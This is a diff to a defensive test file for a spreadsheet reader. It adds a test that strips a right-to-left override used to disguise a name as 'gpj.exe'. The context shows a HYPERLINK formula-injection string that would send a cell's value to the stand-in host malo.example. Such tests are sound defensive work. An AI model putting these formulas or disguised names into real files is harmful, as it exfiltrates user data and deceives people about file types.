@@ -201,6 +201,16 @@ describe('hostile spreadsheets', () => {
     expect(sheet!.csv).toMatch(/^,{999}1\r\n0,{999}\r\n1,{999}\r\n/);
   });
 
+  it('a sheet name loses bidi overrides and invisible characters (issue #16)', async () => {
+    const file = zip(
+      xlsxParts('<row r="1"><c r="A1" t="inlineStr"><is><t>dato</t></is></c></row>', [
+        part('xl/workbook.xml', `<workbook ${MAIN} xmlns:r="${REL}"><sheets><sheet name="Gastos\u202Egpj.exe\u200B" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+      ]),
+    );
+    const [sheet] = await readSheets(file);
+    expect(sheet!.name).toBe('Gastosgpj.exe');
+  });
+
   it('a string cell that looks like a formula stays text; formulas are never evaluated', async () => {
     const injection = '=HYPERLINK("https://malo.example/?q="&A2,"Haga clic")';
     const escaped = injection.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
